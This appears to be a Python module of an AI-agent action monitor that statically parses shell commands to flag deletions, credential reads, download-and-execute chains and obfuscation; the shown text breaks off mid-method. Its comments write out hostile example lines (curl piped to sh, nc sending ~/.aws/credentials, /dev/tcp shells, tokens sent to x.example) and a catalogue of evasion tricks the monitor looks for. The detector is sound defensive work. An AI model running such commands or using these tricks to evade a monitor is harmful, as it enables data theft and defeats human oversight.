"""Shell: what a command line really does, read with a real parser (tree-sitter-bash).

    {"tool": "shell", "input": {"command": "sudo rm -rf /srv/prod/db", "cwd": "/srv"}}

gives a ``delete`` of ``directory`` ``/srv/prod/db``, irreversible, flagged ``privileged``.
Lists, pipelines, subshells, command substitution, ``bash -c``/``sh -c``/``eval`` (analyzed
recursively, depth-bounded), here-documents and here-strings fed to shells, wrappers (``sudo``,
``env``, ``timeout``, ``xargs``, ``ssh host CMD`` …), decoded or downloaded text piped into a
shell, command words written with paths, quotes, backslashes, variables or ``${IFS}``, aliases and
variables defined in the same line, and truncating redirections are all followed. What cannot be
known statically (a command word built at run time) is an effect flagged ``dynamic``. Nothing is
ever executed. What each command does is :mod:`watchkeeper.analyzers.commands`.
"""

from __future__ import annotations

import dataclasses
import functools
import posixpath
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

import tree_sitter_bash
from tree_sitter import Language, Node, Parser

from watchkeeper import confusables
from watchkeeper.analyzers import commands, secrets
from watchkeeper.analyzers.invocation import MAY_DECODE, PAYLOADS
from watchkeeper.analyzers.locations import REBUILD, regenerable
from watchkeeper.analyzers.paths import SOMEWHERE, is_credential, path_flags
from watchkeeper.models import Action, Effect, Span, Target

MAX_COMMAND = 100_000
MAX_DEPTH = 5
_LANGUAGE = Language(tree_sitter_bash.language())
_ASCII_ONLY = bytes(range(128)) + b"x" * 128
_IFS = re.compile(r"\$\{?IFS\}?")
_BRACE = re.compile(r"\{([^{},]*(?:,[^{},]*)+)\}")


@dataclass
class Scope:
    """What one command line defines for later commands in it: variables and aliases."""

    variables: dict[str, str | None] = field(default_factory=dict)
    aliases: dict[str, str] = field(default_factory=dict)
    #: Files written earlier in the line, by normalized path: their text, or None if unknown.
    files: dict[str, str | None] = field(default_factory=dict)
    #: Files written earlier in the line with decoded or downloaded text: path → which.
    payload_files: dict[str, str] = field(default_factory=dict)
    #: Where `cd` went earlier in the line (None: where the line started, or unknown); a
    #: relative one is relative to where the line started.
    cwd: str | None = None
    #: Whether a `cd` went somewhere nobody knows (`cd "$X"`, `cd -`, `popd`).
    lost: bool = False
    #: Where the line started: the action's `cwd`, when it gives one.
    start: str | None = None
    #: Variables holding decoded or downloaded text: ``X=$(curl …)`` → {"X": "downloaded"}.
    tainted: dict[str, str] = field(default_factory=dict)


@dataclass
class Context:
    text: str
    field: str
    offset: int  # where ``text`` starts in the action's field (for spans)
    depth: int
    scope: Scope
    effects: list[Effect]
    #: What each node's text carries, once worked out (see :func:`_payload`), by node id.
    payloads: dict[int, str | None] = dataclasses.field(default_factory=dict)

    def span(self, node: Node) -> Span:
        data = self.text.encode("utf-8")
        start = len(data[: node.start_byte].decode("utf-8", "replace"))
        end = len(data[: node.end_byte].decode("utf-8", "replace"))
        return Span(self.field, self.offset + start, self.offset + end)


def _source(ctx: Context, node: Node) -> str:
    return ctx.text.encode("utf-8")[node.start_byte : node.end_byte].decode("utf-8", "replace")


def static_value(ctx: Context, node: Node) -> str | None:
    """The string a word evaluates to, or ``None`` when it depends on run time."""
    kind = node.type
    if kind == "word":
        return re.sub(r"\\(.)", r"\1", _source(ctx, node))
    if kind == "raw_string":
        return _source(ctx, node)[1:-1]
    if kind == "ansi_c_string":
        return None  # $'\x72\x6d' spells anything
    if kind == "string":
        parts = []
        for child in node.children:
            if child.type == '"':
                continue
            if child.type == "string_content":
                parts.append(re.sub(r"\\([\"\\$`])", r"\1", _source(ctx, child)))
            elif child.type == "simple_expansion" or child.type == "expansion":
                value = _variable(ctx, child)
                if value is None:
                    return None
                parts.append(value)
            else:
                return None
        return "".join(parts)
    if kind == "concatenation":
        parts = []
        for child in node.children:
            value = static_value(ctx, child)
            if value is None:
                return None
            parts.append(value)
        return "".join(parts)
    if kind in ("simple_expansion", "expansion"):
        return _variable(ctx, node)
    if kind == "number":
        return _source(ctx, node)
    return None


def _variable(ctx: Context, node: Node) -> str | None:
    name_node = next((c for c in node.children if c.type == "variable_name"), None)
    if name_node is None or len([c for c in node.children if c.is_named]) != 1:
        return None  # ${x:-…}, ${x//a/b}, $1, $@: computed at run time
    name = _source(ctx, name_node)
    if name == "HOME" and name not in ctx.scope.variables:
        return "~"  # what `~` expands to: the same directory, spelled the same for the tables
    return ctx.scope.variables.get(name)


def _shape(ctx: Context, node: Node) -> str:
    """A word with what is computed at run time as ``*``: ``"$D/.aws/credentials"`` is
    ``*/.aws/credentials``."""
    if node.type in ("string", "concatenation"):
        parts = []
        for child in node.children:
            if child.type == '"':
                continue
            if child.type == "string_content":
                parts.append(_source(ctx, child))
            else:
                parts.append(_shape(ctx, child))
        return "".join(parts)
    value = static_value(ctx, node)
    return "*" if value is None else value


def expand_braces(word: str) -> list[str]:
    """``rm{,}`` → ``["rm", "rm"]``; one level, as the shell would before running."""
    match = _BRACE.search(word)
    if match is None:
        return [word]
    head, tail = word[: match.start()], word[match.end() :]
    return [head + part + tail for part in match.group(1).split(",")]


def analyze(
    text: str,
    field: str = "command",
    *,
    depth: int = 0,
    offset: int = 0,
    cwd: str | None = None,
) -> list[Effect]:
    """Effects of a shell command line run in ``cwd`` (None: nobody says where)."""
    if depth > MAX_DEPTH:
        return [commands.dynamic(f"shell nested deeper than {MAX_DEPTH} levels", None)]
    if len(text) > MAX_COMMAND:
        return [commands.dynamic(f"command longer than {MAX_COMMAND} characters", None)]
    ctx = Context(text, field, offset, depth, Scope(start=cwd), [])
    for finding in confusables.find(text):
        ctx.effects.append(
            commands.effect(
                "unknown",
                "process",
                None,
                flags=["obfuscated"],
                span=Span(field, offset + finding.index, offset + finding.index + 1),
                confusable=finding.describe(),
            )
        )
    # The grammar's external scanner crashes the process on some non-ASCII input (seen with
    # astral characters near braces, in every released version). The shell treats non-ASCII
    # bytes as ordinary word characters, so the parser is given "x" for each of them: the same
    # structure at the same byte offsets, and values are still read from the real text.
    tree = Parser(_LANGUAGE).parse(text.encode("utf-8").translate(_ASCII_ONLY) + b"\n")
    if tree.root_node.has_error:
        ctx.effects.append(commands.dynamic("the command does not parse as shell", None))
    _walk(ctx, tree.root_node, stdin=None)
    if _IFS.search(text) and depth < MAX_DEPTH:
        # ${IFS} splits words at run time: read the line again as the shell would.
        ctx.effects.extend(
            analyze(_IFS.sub(" ", text), field, depth=depth + 1, offset=offset, cwd=cwd)
        )
    if any(e.flags & {"obfuscated"} for e in ctx.effects):
        ctx.effects = [commands.flagged(e, "obfuscated") for e in ctx.effects]
    # A line that parsed whole and runs no command (`X=1`, a comment, `alias x=…`) reads.
    return ctx.effects or [commands.effect("read", "process", None, reversible="yes",
                                           why="runs no command")]  # fmt: skip


@dataclass(frozen=True)
class Fed:
    """What a redirection feeds a command's standard input: its text when known, and where it
    comes from (``text``, ``file``, ``dynamic``, ``decoded`` or ``downloaded``)."""

    text: str | None
    source: str
    #: What the grammar hangs on a heredoc's operator line: `cat <<EOF | sh`, `cat <<EOF && rm
    #: -rf x`. They run after the command, the pipeline reading what it prints.
    then: tuple[Node, ...] = ()


#: How much a label of standard input says about what runs: a payload outranks a mere
#: unknown, which outranks a file or plain text.
_RANK = {"text": 0, "file": 1, "dynamic": 2, "downloaded": 3, "decoded": 4}


def _stronger(a: str | None, b: str | None) -> str | None:
    if a is None or b is None:
        return a or b
    return a if _RANK[a] >= _RANK[b] else b


def _walk(ctx: Context, node: Node, stdin: str | None) -> None:
    """Walk ``node``; ``stdin`` says what feeds its standard input (see :class:`Fed`)."""
    kind = node.type
    if kind == "pipeline":
        # A filter passes its input on: `curl … | grep -v '#' | sh` runs the download.
        feeds = stdin
        stages = node.named_children
        for i, child in enumerate(stages):
            _walk(ctx, child, feeds)
            if i + 1 < len(stages):  # what the last stage prints leaves the pipeline
                feeds = _stronger(feeds, _output(ctx, child))
        return
    if kind == "variable_assignment":
        _assign(ctx, node)
        for sub in _substitutions(node):  # also inside arrays and subscripts: a[$(…)]=( $(…) )
            _walk(ctx, sub, None)
        return
    if kind == "for_statement":  # for c in $(curl …); do eval "$c"; done
        variable = node.child_by_field_name("variable")
        if variable is not None:
            values = [_payload(ctx, v) for v in node.children_by_field_name("value")]
            _taint(ctx, _source(ctx, variable), next((v for v in values if v), None))
    if kind == "redirected_statement":
        body = node.child_by_field_name("body") or (
            node.named_children[0] if node.named_children else None
        )
        if body is not None and body.type in _REDIRECTS:
            body = None  # `> /etc/passwd` alone: no command, and the file is still truncated
        feds: list[Fed] = []
        extra: list[Node] = []
        # The grammar hangs `cd /etc && cat < shadow`'s redirection on the whole list: it is
        # the last command's, so what it reads or writes is judged after the list's `cd`s.
        now = body is None or body.type == "command"
        for child in node.named_children:
            if child is not body:
                found = _redirect(ctx, child, body, stdin, now=now)
                feds.extend([found] if found is not None else [])
                extra.extend(_trailing(child))
        fed = feds[0] if feds else None
        if body is not None and body.type == "command":
            _command(ctx, body, stdin, fed, extra)
            _remember(ctx, node, body, fed, stdin)
        elif body is not None:  # while read l; do …; done < <(curl …); a | b > f
            _walk(ctx, body, fed.source if fed is not None else stdin)
            _remember(ctx, node, body, fed, stdin)
            for child in node.named_children:
                if child is not body:
                    _file_effects(ctx, child)
        for found in feds:
            _continue(ctx, body, found)
        return
    if kind == "command":
        _command(ctx, node, stdin)
        return
    if kind == "declaration_command":  # `declare -p`, `export` alone: they print variables
        _declaration(ctx, node)
    if kind in _SUBSHELLS:  # a `cd` inside leaves the rest of the line where it was
        where = ctx.scope.cwd, ctx.scope.lost
        for child in node.named_children:
            _walk(ctx, child, stdin)
        ctx.scope.cwd, ctx.scope.lost = where
        return
    for child in node.named_children:
        _walk(ctx, child, stdin)


_SUBSHELLS = frozenset({"subshell", "command_substitution", "process_substitution"})
_REDIRECTS = frozenset({"file_redirect", "heredoc_redirect", "herestring_redirect"})


def _declaration(ctx: Context, node: Node) -> None:
    """``declare``, ``typeset``, ``export``, ``readonly``, ``local``: the grammar's own node.
    Given no name to set, or ``-p``, they print variables and their values."""
    keyword = node.children[0].type if node.children else ""
    args: list[str | None] = []
    for child in node.named_children:
        if child.type == "word":
            args.append(static_value(ctx, child))
        elif child.type == "variable_name" or child.type == "variable_assignment":
            args.append(_source(ctx, child))
        else:
            args.append(None)
    run = commands.Invocation(name=keyword, args=args, span=ctx.span(node))
    printed = secrets.prints_secrets(run)
    if printed is not None:
        ctx.effects.append(secrets.secret_read(run, printed))


def _taint(ctx: Context, name: str, payload: str | None) -> None:
    if payload in PAYLOADS:
        ctx.scope.tainted[name] = str(payload)
    else:
        ctx.scope.tainted.pop(name, None)


def _payload(ctx: Context, node: Node) -> str | None:
    """``decoded`` or ``downloaded`` when the text of ``node`` comes from a decoder or a
    downloader: a command in it (``$(… | base64 -d)``, ``<(curl …)``) or a variable that holds
    such text (``$X`` after ``X=$(curl …)``). Else None."""
    known = ctx.payloads.get(node.id, "")
    if known != "":
        return known
    kind = node.type
    found: str | None = None
    if kind in ("simple_expansion", "expansion"):
        name = next((c for c in node.children if c.type == "variable_name"), None)
        found = ctx.scope.tainted.get(_source(ctx, name)) if name is not None else None
    elif kind == "command":
        name_text = _name(ctx, node)
        if name_text is not None and posixpath.basename(name_text).lower() in MAY_DECODE:
            label = commands.producer(name_text, _static_words(ctx, node)[1])
            found = label if label in PAYLOADS else None
    for child in node.named_children:
        if found == "decoded":
            break
        found = _stronger(found, _payload(ctx, child))
    ctx.payloads[node.id] = found
    return found


def _output(ctx: Context, node: Node) -> str:
    """What a pipeline stage prints for the next: a payload, ``dynamic`` (a program computed
    at run time), or ``text``."""
    found = _payload(ctx, node)
    if found is not None:
        return found
    if any(_name(ctx, c) is None for c in _commands_in(node)):
        return "dynamic"
    return "text"


def _name(ctx: Context, command: Node) -> str | None:
    """A command's word as far as it is static (``None`` also for no word at all)."""
    name_node = command.child_by_field_name("name")
    if name_node is None:
        return None
    return static_value(ctx, name_node.named_children[0] if name_node.named_children else name_node)


def _assign(ctx: Context, node: Node) -> None:
    name = node.child_by_field_name("name")
    value = node.child_by_field_name("value")
    if name is None:
        return
    ctx.scope.variables[_source(ctx, name)] = static_value(ctx, value) if value is not None else ""
    _taint(ctx, _source(ctx, name), _payload(ctx, value) if value is not None else None)


def _where(ctx: Context) -> str | None:
    """Where relative paths are for flags: the directory `cd` moved to, anywhere after a `cd`
    nobody can follow, else where the line started (when the action says)."""
    if ctx.scope.cwd is not None and (ctx.scope.cwd.startswith(("/", "~")) or not ctx.scope.start):
        return ctx.scope.cwd
    if ctx.scope.lost:
        return SOMEWHERE
    if ctx.scope.cwd is not None and ctx.scope.start:
        return posixpath.join(ctx.scope.start, ctx.scope.cwd)
    return ctx.scope.start


def _resolved(ctx: Context, path: str) -> str:
    """A relative path under the directory `cd` moved to earlier in the line."""
    cwd = ctx.scope.cwd
    if cwd is None or ctx.scope.lost or not path or path.startswith(("/", "~")):
        return path
    return posixpath.join(cwd, path)


def _under(ctx: Context, effect: Effect) -> Effect:
    """A relative file or directory target, resolved under the directory `cd` moved to, with
    the flags of where it really is (`cd /etc && cat shadow` reads /etc/shadow)."""
    ident = effect.target.id
    if effect.target.kind not in ("file", "directory") or not ident or ident.startswith(("/", "~")):
        return effect
    where = _where(ctx)
    if where is None:
        return effect
    found = path_flags(ident, where)
    flags = [f for f in found if f == "credential_access"] if effect.verb == "read" else found
    moved = _resolved(ctx, ident)
    if moved != ident:
        effect = dataclasses.replace(effect, target=Target(effect.target.kind, moved))
    if effect.recovery == REBUILD and (ctx.scope.lost or not regenerable(moved)):
        # cd .. && rm -rf build, cd "$X" && rm -rf build: whose build, out there, nobody knows
        effect = dataclasses.replace(effect, reversible="no", recovery="restore from a backup")
    return commands.flagged(effect, *flags)


def _moved(ctx: Context, name: str, args: list[str | None]) -> None:
    """Where `cd`, `pushd` or `popd` leaves the rest of the line."""
    operands = [a for a in args if a is None or a == "-" or not a.startswith("-")]
    target = operands[0] if operands else ("~" if name == "cd" else None)
    if name == "popd" or target is None or target == "-":  # back to a place not followed
        ctx.scope.cwd, ctx.scope.lost = None, True
    elif target.startswith(("/", "~")):
        ctx.scope.cwd, ctx.scope.lost = target, False
    elif not ctx.scope.lost:  # relative: under where it was (or where the line started)
        ctx.scope.cwd = posixpath.join(ctx.scope.cwd or "", target)


def _static_words(ctx: Context, node: Node) -> tuple[str | None, list[str | None]]:
    """A command's word and arguments as far as they are static, without walking anything."""
    name_node = node.child_by_field_name("name")
    args = [static_value(ctx, c) for c in node.children_by_field_name("argument")]
    if name_node is None:
        return None, args
    inner = name_node.named_children[0] if name_node.named_children else name_node
    return static_value(ctx, inner), args


def _written(ctx: Context, body: Node, fed: str | None) -> str | None:
    """What a command prints, when it is plain to see: ``echo``/``printf`` of static words,
    ``cat`` of a heredoc."""
    name, args = _static_words(ctx, body)
    if name in ("echo", "printf") and None not in args:
        words = [a for a in args if a is not None]
        if name == "echo":
            while words and words[0] in ("-n", "-e", "-E"):
                words.pop(0)
        return " ".join(words) + "\n"
    if name == "cat" and not args and fed is not None:
        return fed
    return None


def _file_redirects(node: Node) -> list[Node]:
    """A statement's file redirections, also those the grammar nests in a heredoc's operator
    line (`cat <<EOF > file`)."""
    out = []
    for child in node.named_children:
        if child.type == "file_redirect":
            out.append(child)
        elif child.type == "heredoc_redirect":
            out.extend(c for c in child.named_children if c.type == "file_redirect")
    return out


def _remember(ctx: Context, node: Node, body: Node, fed: Fed | None, stdin: str | None) -> None:
    """Record what ``cmd > file`` writes, for a later ``bash file``: its text when plain, and
    whether it is decoded or downloaded (``curl … > x.sh``)."""
    redirects = _file_redirects(node)
    command = body.type == "command"
    if not redirects or (command and _static_words(ctx, body)[0] == "tee"):
        return  # tee records its own files
    text = _written(ctx, body, fed.text if fed is not None else None) if command else None
    payload = _into(ctx, body, fed.source if fed is not None else stdin)
    for child in redirects:
        operator = next((c.type for c in child.children if not c.is_named), "")
        if operator not in (">", ">>", ">|", "&>", "&>>"):
            continue
        target = child.child_by_field_name("destination")
        path = static_value(ctx, target) if target is not None else None
        _record(ctx, path, text, append=operator.endswith(">>"), payload=payload)


def _record(
    ctx: Context, path: str | None, text: str | None, *, append: bool, payload: str | None
) -> None:
    if path is None:
        return
    key = posixpath.normpath(path)
    before = ctx.scope.files.get(key, "")
    if append and key in ctx.scope.files:
        ctx.scope.files[key] = None if before is None or text is None else before + text
    else:
        ctx.scope.files[key] = text
        ctx.scope.payload_files.pop(key, None)
    if payload in PAYLOADS:
        ctx.scope.payload_files[key] = str(payload)


def _file_effects(ctx: Context, node: Node) -> None:
    """What a file redirection reads or writes (``> f`` truncates it, ``< f`` reads it), where
    the line is when its command runs."""
    if node.type != "file_redirect":
        return
    operator = next((c.type for c in node.children if not c.is_named), "")
    target = node.child_by_field_name("destination") or (
        node.named_children[-1] if node.named_children else None
    )
    path = static_value(ctx, target) if target is not None else None
    duplicate = operator in (">&", "<&") and (path is None or path == "-" or path.isdigit())
    if duplicate and path is None:  # `>&$fd` names a descriptor or a file at run time
        ctx.effects.extend(commands.redirect(None, False, ctx.span(node)))
    elif ">" in operator and not operator.startswith("<") and not duplicate:
        append = operator in (">>", "&>>")
        written = commands.redirect(path, append, ctx.span(node))
        ctx.effects.extend(_under(ctx, e) for e in written)
    elif path is not None and path.startswith(commands.NETWORK_FILES):  # 3<> /dev/tcp/…
        ctx.effects.append(commands.network_file(path, ctx.span(node), sends="<" not in operator))
    elif operator == "<" and target is not None and target.type != "process_substitution":
        ctx.effects.append(_input(ctx, path, _shape(ctx, target), ctx.span(node)))


def _redirect(
    ctx: Context,
    node: Node,
    command: Node | None = None,
    stdin: str | None = None,
    *,
    now: bool = True,
) -> Fed | None:
    """Effects of one redirection of ``command`` (``now``: else the caller adds them with
    :func:`_file_effects` once the command's place is known); for an input (a heredoc, a
    here-string, ``< file``, ``< <(…)``), what it feeds."""
    if node.type == "file_redirect":
        operator = next((c.type for c in node.children if not c.is_named), "")
        target = node.child_by_field_name("destination") or (
            node.named_children[-1] if node.named_children else None
        )
        path = static_value(ctx, target) if target is not None else None
        if now:
            _file_effects(ctx, node)
        for child in node.named_children:
            if child.type in ("command_substitution", "process_substitution"):
                # `cmd > >(sh)`: the shell inside reads what the command prints.
                into = _into(ctx, command, stdin) if _writes_into(child) else None
                _walk(ctx, child, into)
        if operator != "<" or target is None:
            return None
        if target.type == "process_substitution":  # < <(curl …)
            return Fed(None, _payload(ctx, target) or "dynamic")
        if path is not None and path.startswith(commands.NETWORK_FILES):
            return Fed(None, "downloaded")  # bash < /dev/tcp/HOST/PORT runs what arrives
        key = posixpath.normpath(path) if path is not None else None
        if key is not None and key in ctx.scope.payload_files:  # curl … > x; bash < x
            return Fed(None, ctx.scope.payload_files[key])
        text = ctx.scope.files.get(key) if key is not None else None
        return Fed(text, "text") if text is not None else Fed(None, "file")
    if node.type in ("heredoc_redirect", "herestring_redirect"):
        text = None
        quoted = False
        then = []
        for child in node.named_children:
            if child.type == "heredoc_start":
                quoted = any(q in _source(ctx, child) for q in "'\"\\")
            elif child.type == "heredoc_body":
                text = _source(ctx, child)
            elif child.type == "file_redirect":  # `cat <<EOF > file`: nested by the grammar
                _redirect(ctx, child, command, stdin)
                continue
            elif node.type == "heredoc_redirect" and child.type != "heredoc_end":
                then.append(child)  # `| sh`, `&& rm -rf x`: walked after the command
                continue
            elif child.type != "heredoc_end":
                text = static_value(ctx, child)
            for sub in _substitutions(child):  # an unquoted heredoc expands $(…) when read
                _walk(ctx, sub, None)
        # What is fed: a heredoc's body, a here-string's word (not the commands on its line).
        fed_nodes = [c for c in node.named_children if c.type not in ("heredoc_start",
                     "heredoc_end", "file_redirect") and c not in then]  # fmt: skip
        payload = None
        for fed_node in [] if quoted else fed_nodes:
            payload = _stronger(payload, _payload(ctx, fed_node))
        if payload is not None:  # what it feeds is computed from a decoder or a download
            return Fed(None, payload, tuple(then))
        return Fed(text, "text" if text is not None else "dynamic", tuple(then))
    return None


def _input(ctx: Context, path: str | None, shape: str, span: Span) -> Effect:
    """``cmd < file`` reads the file (``nc host 80 < ~/.aws/credentials`` sends it on)."""
    secret = is_credential(path, _where(ctx)) if path is not None else is_credential(shape)
    read = commands.effect("read", "file", path, reversible="yes", span=span,
                           flags=["credential_access"] if secret else [])  # fmt: skip
    return _under(ctx, read)


def _continue(ctx: Context, command: Node | None, fed: Fed) -> None:
    """Walk what follows a heredoc's operator: a pipeline reads what the command prints."""
    for node in fed.then:
        if node.type == "pipeline":
            _walk(ctx, node, _into(ctx, command, fed.source))
        else:
            _walk(ctx, node, None)


def _writes_into(node: Node) -> bool:
    """A process substitution a command writes into (``>(…)``), not one it reads (``<(…)``)."""
    return (
        node.type == "process_substitution"
        and bool(node.children)
        and (node.children[0].type == ">(")
    )


def _into(ctx: Context, command: Node | None, stdin: str | None) -> str | None:
    """What ``command`` writes: its input passed on (tee, cat) or what it prints itself."""
    return _stronger(stdin, _output(ctx, command)) if command is not None else stdin


def _words(
    ctx: Context, node: Node, into: str | None = None
) -> tuple[str | None, list[str | None]]:
    """A command's word and arguments, walking the substitutions in them; a ``>(…)`` among
    them reads what the command writes (``into``)."""
    name_node = node.child_by_field_name("name")
    args: list[str | None] = []
    for child in node.children_by_field_name("argument"):
        value = static_value(ctx, child)
        args.extend(expand_braces(value) if value is not None else [None])
        for sub in _substitutions(child):  # $(…), `…`, <(…), also inside $(( … ))
            _walk(ctx, sub, _into(ctx, node, into) if _writes_into(sub) else None)
    if name_node is None:
        return None, args
    inner = name_node.named_children[0] if name_node.named_children else name_node
    for sub in _substitutions(inner):
        _walk(ctx, sub, None)
    name = static_value(ctx, inner)
    if name is None:
        return None, args
    words: list[str | None] = [*expand_braces(name)]
    return words[0], words[1:] + args


def _trailing(redirect: Node) -> list[Node]:
    """Words after a redirection's target: ``rm 2>/dev/null -rf /srv`` gives ``-rf``, ``/srv``.

    The grammar hangs them on the redirection; the shell gives them to the command.
    """
    if redirect.type != "file_redirect":
        return []
    return redirect.children_by_field_name("destination")[1:]


#: A command word written in escapes (``$'\x72\x6d'``): it reads as nothing and runs as
#: something, which no one writes but to hide it.
_ESCAPED_WORD = re.compile(r"\$'[^']*\\([xuU0-7]|c.)")
#: Builtins that assign what they read: from a decoder or a download, the variable carries it.
_READS_INTO = {"read": "REPLY", "mapfile": "MAPFILE", "readarray": "MAPFILE"}
_IDENTIFIER = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")


def _command(
    ctx: Context,
    node: Node,
    stdin: str | None,
    fed: Fed | None = None,
    extra: Sequence[Node] = (),
) -> None:
    # `VAR=value cmd $VAR`: the shell expands the words first, with VAR as it was, and gives
    # the new value only to the command's environment, for that command alone.
    extra = list(extra)
    feds: list[Fed] = []
    for child in node.children_by_field_name("redirect"):  # `bash <<< 'rm -rf /'` lands here
        found = _redirect(ctx, child, node, stdin)
        feds.extend([found] if found is not None else [])
        extra.extend(_trailing(child))
    fed = fed if fed is not None else (feds[0] if feds else None)
    _invoke(ctx, node, stdin, fed, extra)
    for found in feds:
        _continue(ctx, node, found)


def _invoke(
    ctx: Context, node: Node, stdin: str | None, fed: Fed | None, extra: list[Node]
) -> None:
    """One command, its redirections read: what it runs, with what on its input."""
    name, args = _words(ctx, node, stdin)
    for trailing in extra:  # their substitutions were walked with the redirection
        value = static_value(ctx, trailing)
        args.extend(expand_braces(value) if value is not None else [None])
    environment = dict(ctx.scope.variables)
    before, tainted = ctx.scope.variables, dict(ctx.scope.tainted)
    for child in node.children:
        if child.type == "variable_assignment":
            for sub in _substitutions(child):  # `X=$(rm -rf /srv) ls` runs the rm
                _walk(ctx, sub, None)
            ctx.scope.variables = environment
            _assign(ctx, child)
            ctx.scope.variables = before
    ctx.scope.tainted = tainted
    span = ctx.span(node)
    runs = sorted(k for k in environment if commands.runs_program(k))
    if runs:  # GIT_EXTERNAL_DIFF='rm -rf /' git diff: the "read" runs whatever VAR names
        ctx.effects.append(commands.dynamic(f"{', '.join(runs)} can make it run any program", span))
    word = node.child_by_field_name("name")
    payload = None
    if name is None or None in args:  # what the computed words carry
        words = [*([word] if word is not None else []), *node.children_by_field_name("argument")]
        for computed in [*words, *extra]:
            payload = _stronger(payload, _payload(ctx, computed))
    if name is None:
        if payload is not None or (word is not None and _ESCAPED_WORD.search(_source(ctx, word))):
            # $(… | base64 -d), `curl …`, $X after X=$(curl …), $'\x72\x6d'
            why = f"runs {payload} text as a command" if payload else "a word written in escapes"
            hidden = commands.effect("execute", "process", None, flags=["obfuscated", "dynamic"],
                                     span=span, why=why)  # fmt: skip
        else:
            hidden = commands.dynamic("the command word is computed at run time", span)
        ctx.effects.append(hidden)
        return
    alias = ctx.scope.aliases.get(name)
    if alias is not None and ctx.depth < MAX_DEPTH:
        rest = " ".join(shlex_quote(a) for a in args if a is not None)
        ctx.effects.extend(
            analyze(f"{alias} {rest}", ctx.field, depth=ctx.depth + 1, cwd=_where(ctx))
        )
        return
    if name == "alias":
        for arg in args:
            if arg and "=" in arg:
                key, _, value = arg.partition("=")
                ctx.scope.aliases[key] = value
        return
    source = fed.source if fed is not None else stdin
    if name in _READS_INTO and source in PAYLOADS:  # read X <<< "$(curl …)"
        names = [a for a in args if a is not None and _IDENTIFIER.fullmatch(a)]
        for variable in names or [_READS_INTO[name]]:
            _taint(ctx, variable, source)
    if name == "printf" and "-v" in args:  # printf -v X '%s' "$(curl …)"
        at = args.index("-v") + 1
        target = args[at] if at < len(args) else None
        if target is not None:
            words = node.children_by_field_name("argument")
            _taint(ctx, target, next(filter(None, (_payload(ctx, w) for w in words)), None))
    shapes = tuple(
        _shape(ctx, child)
        for child in [*node.children_by_field_name("argument"), *extra]
        if static_value(ctx, child) is None
    )
    where = _where(ctx)
    run = commands.Invocation(
        name=name,
        args=args,
        span=span,
        stdin=source,
        depth=ctx.depth,
        field=ctx.field,
        variables=environment,
        stdin_text=fed.text if fed is not None else None,
        files=ctx.scope.files,
        payload=payload,
        payload_files=ctx.scope.payload_files,
        cwd=where,
        shapes=shapes,
    )
    # Nested shell text (`bash -c`, `find -exec`, `xargs`) runs where this command runs.
    found = commands.effects_of(run, functools.partial(analyze, cwd=where))
    strings = [
        r for r in node.children_by_field_name("redirect") if r.type == "herestring_redirect"
    ]
    given = _secrets_given(ctx, name, [*node.children_by_field_name("argument"), *extra, *strings])
    if given and (name in _PRINTERS or any("egress" in e.flags for e in found)):
        # echo $AWS_SECRET_ACCESS_KEY, curl https://x.example/$GITHUB_TOKEN: the value is
        # printed for the agent to read, or sent out
        found = [commands.flagged(e, "credential_access") for e in found]
    if name == "tee":  # echo … | tee x.sh, tee x.sh <<EOF: what it reads, it writes
        for a in args:
            if a is None or not a.startswith("-"):
                _record(ctx, a, run.stdin_text, append="-a" in args, payload=source)
    for e in found:  # curl -o x.sh, wget URL: the file holds the download
        if e.attributes.get("downloaded") and e.target.kind == "file":
            _record(ctx, e.target.id, None, append=False, payload="downloaded")
        elif name in _PLACERS and e.verb in ("create", "overwrite") and e.target.kind == "file":
            # ln -s /bin/rm ls; ./ls -rf /srv: what runs is whatever was put there
            _record(ctx, e.target.id, None, append=False, payload=None)
    if name in ("cd", "pushd", "popd"):  # later relative paths are under the new directory
        _moved(ctx, name, args)
    else:
        found = [_under(ctx, e) for e in found]
    ctx.effects.extend(found)


#: Programs that put a file at a name: run by that name later in the line, it is unknown.
_PLACERS = frozenset({"ln", "cp", "mv", "install", "rsync", "scp"})
#: Programs that print their words for the agent to read.
_PRINTERS = frozenset({"echo", "printf", "print", "cat"})
#: Options through which a program authenticates itself with a secret (not counted): the
#: secret goes where the program is pointed, as its own key does (`curl --cert`).
_AUTH_OPTIONS = frozenset(
    "-u --user -U --proxy-user --oauth2-bearer --password --http-password --proxy-password "
    "--ftp-password -a --auth --auth-type".split()
)
_AUTH_HEADER = re.compile(r"^\s*[\w-]*(auth|token|key|bearer|cookie|secret|session)[\w-]*\s*[:=]",
                          re.IGNORECASE)  # fmt: skip


def _secrets_given(ctx: Context, name: str, words: Sequence[Node]) -> list[str]:
    """The secret-named variables expanded into a command's words, except as the value of an
    authentication option (``curl -u "u:$PASS"``, ``-H "Authorization: Bearer $TOKEN"``)."""
    out: list[str] = []
    previous = ""
    for word in words:
        text = _source(ctx, word).replace('"', "").replace("'", "")
        option, _, attached = text.partition("=") if text.startswith("--") else (text, "", "")
        header = (
            text
            if previous in ("-H", "--header") or name in ("http", "https", "xh")
            else attached
            if option == "--header"
            else text[2:]
            if text.startswith("-H")
            else None
        )
        authenticates = (
            previous in _AUTH_OPTIONS
            or (bool(attached) and option in _AUTH_OPTIONS)
            or (header is not None and bool(_AUTH_HEADER.match(header)))
        )
        previous = text
        if not authenticates:
            out.extend(
                v for v in _expanded(ctx, word)
                if secrets.secret_variable(v)
            )  # fmt: skip
    return out


def _expanded(ctx: Context, node: Node) -> list[str]:
    """The names of the variables a word expands (not inside its command substitutions)."""
    if node.type in ("simple_expansion", "expansion"):
        found = next((c for c in node.children if c.type == "variable_name"), None)
        return [_source(ctx, found)] if found is not None else []
    if node.type in ("command_substitution", "process_substitution"):
        return []
    return [v for child in node.named_children for v in _expanded(ctx, child)]


def _substitutions(node: Node) -> list[Node]:
    """Every command or process substitution inside a word, however deeply nested."""
    if node.type in ("command_substitution", "process_substitution"):
        return [node]
    out = []
    for child in node.named_children:
        out.extend(_substitutions(child))
    return out


def _commands_in(node: Node) -> list[Node]:
    if node.type == "command":
        return [node]
    out = []
    for child in node.named_children:
        out.extend(_commands_in(child))
    return out


def shlex_quote(word: str) -> str:
    return "'" + word.replace("'", "'\\''") + "'"


class ShellAnalyzer:
    """Analyzes ``{"command": "…", "cwd": "…"}`` (``cmd`` and ``script`` are read too)."""

    name = "shell"

    def analyze(self, action: Action) -> Sequence[Effect]:
        """Effects of the action's command line."""
        # Where the agent says the command runs: it only adds flags to relative paths (a path
